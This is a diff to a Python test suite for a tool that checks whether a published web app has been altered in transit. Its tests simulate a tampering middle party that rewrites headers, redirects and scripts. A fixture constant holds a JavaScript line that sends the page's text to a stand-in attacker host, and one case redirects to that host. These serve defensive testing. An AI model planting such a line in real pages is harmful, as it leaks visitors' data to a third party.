@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import json
+import re
 import socket
 import threading
+import time
 from collections.abc import Callable, Iterator
 from io import StringIO
 from pathlib import Path
@@ -15,12 +17,13 @@ from django.core.management import CommandError, call_command
 
 from handrail.site import published, verify
 from handrail.site.published import Published
-from handrail.site.verify import CouldNotLook, Report
+from handrail.site.verify import Report
 from tests.attacks.between import Answer, Between, Change, Front, between
 from tools import maker_key
 from tools.live import LiveServer
 
 SCRIPT, PAGE, LOADER = "/app/home/app.js", "/app/", "/app/sw.js"
+KNOWN = (*verify.OUTSIDE, *verify.DOORS)
 BAD = b"fetch('https://evil.example/' + document.body.innerText);"
 
 
@@ -51,7 +54,8 @@ def looked(middle: tuple[Between, Front], own: Published) -> Callable[[Change | 
         between_them, front = middle
         between_them.change = change
         report = verify.verify(front.app, small(own), 10)
-        kinds = {f"{one.kind} {one.path}" for one in report.findings}
+        unknown = re.compile(r"/[0-9a-f]{16}")
+        kinds = {f"{one.kind} {unknown.sub('(unknown)', one.path)}" for one in report.findings}
         return {line for line in kinds if not line.startswith("added ")}
 
     return look
@@ -113,6 +117,17 @@ DISHONEST: dict[str, tuple[Change, set[str]]] = {
     "a loader for less": (on(LOADER, headers={"service-worker-allowed": ""}), {f"header {LOADER}"}),
     "a page that marks its visitors": (on(PAGE, headers={"set-cookie": "who=7"}), {f"header {PAGE}"}),
     "a page that empties the browser": (on(PAGE, headers={"clear-site-data": '"*"'}), {f"header {PAGE}"}),
+    "a script at the first address": (
+        on("/", status=200, headers={"location": "", "content-security-policy": ""}, body=b"<script>1</script>"),
+        {"door /", "header /"},
+    ),
+    "a first address that leads elsewhere": (on("/", headers={"location": "https://evil.example/"}), {"door /"}),
+    "a way out that stays": (on("/leave", headers={"location": "/app/"}), {"door /leave"}),
+    "a way out that marks": (on("/leave", headers={"set-cookie": "who=7"}), {"header /leave"}),
+    "a page where there is none": (
+        lambda path, a: Answer(200, a.headers, BAD) if path not in KNOWN and not path.startswith("/app/") else None,
+        {"door (unknown)"},
+    ),
     "a file of another kind": (on(SCRIPT, headers={"x-content-type-options": ""}), {f"header {SCRIPT}"}),
 }  # fmt: skip
 
@@ -305,26 +320,41 @@ def test_an_answer_that_breaks_off_is_nothing_sure(middle: tuple[Between, Front]
     assert (code, f"No whole answer came for {SCRIPT}" in said, "nothing sure" in said) == (2, True, True)
 
 
-def drip(listening: socket.socket) -> None:
-    """Answers with a byte now and then, for ever."""
-    while True:
-        try:
-            wire, _ = listening.accept()
-            wire.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n")
-            while True:
-                wire.sendall(b" ")
-                threading.Event().wait(0.05)
-        except OSError:
-            if listening.fileno() < 0:
-                return
+def test_a_whole_run_has_an_end_and_keeps_what_it_saw(
+    middle: tuple[Between, Front], own: Published, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    between_them, front = middle
+    over = threading.Event()
+
+    def change(path: str, answer: Answer) -> Answer | None:
+        if path == LOADER:
+            over.set()
+        return Answer(200, answer.headers, BAD) if path == SCRIPT else None
+
+    between_them.change = change
+    real = time.monotonic
+    clock = type("Clock", (), {"monotonic": staticmethod(lambda: real() + (1000.0 if over.is_set() else 0.0))})
+    monkeypatch.setattr(verify, "time", clock)
+    between_them.asked.clear()
+    report = verify.verify(front.app, small(own), 10)
+    assert "changed" in {one.kind for one in report.differs}
+    assert report.silences == verify.MOST_SILENCES + 1
+    assert between_them.asked.count(verify.LIST) == 1, "nothing is asked for any more"
 
 
-def test_a_slow_server_does_not_hold_it_for_ever(own: Published) -> None:
-    with socket.create_server(("127.0.0.1", 0)) as listening:
-        threading.Thread(target=drip, args=(listening,), daemon=True).start()
-        url = f"http://127.0.0.1:{listening.getsockname()[1]}"
-        with pytest.raises(CouldNotLook, match="slow"):
-            verify.verify(url, own, 0.5)
+def test_a_list_that_hides_later_does_not_take_back_what_was_seen(middle: tuple[Between, Front]) -> None:
+    between_them, front = middle
+
+    def change(path: str, answer: Answer) -> Answer | None:
+        if path == SCRIPT:
+            return Answer(200, answer.headers, BAD)
+        hidden = path == verify.LIST and between_them.asked.count(verify.LIST) > 1
+        return Answer(404, answer.headers, b"") if hidden else None
+
+    between_them.change = change
+    between_them.asked.clear()
+    code, said = run(front.app)
+    assert (code, f"Changed: {SCRIPT}" in said, f"No whole answer came for {verify.LIST}" in said) == (1, True, True)
 
 
 def test_a_server_that_falls_silent_is_not_asked_for_every_file(middle: tuple[Between, Front], own: Published) -> None:
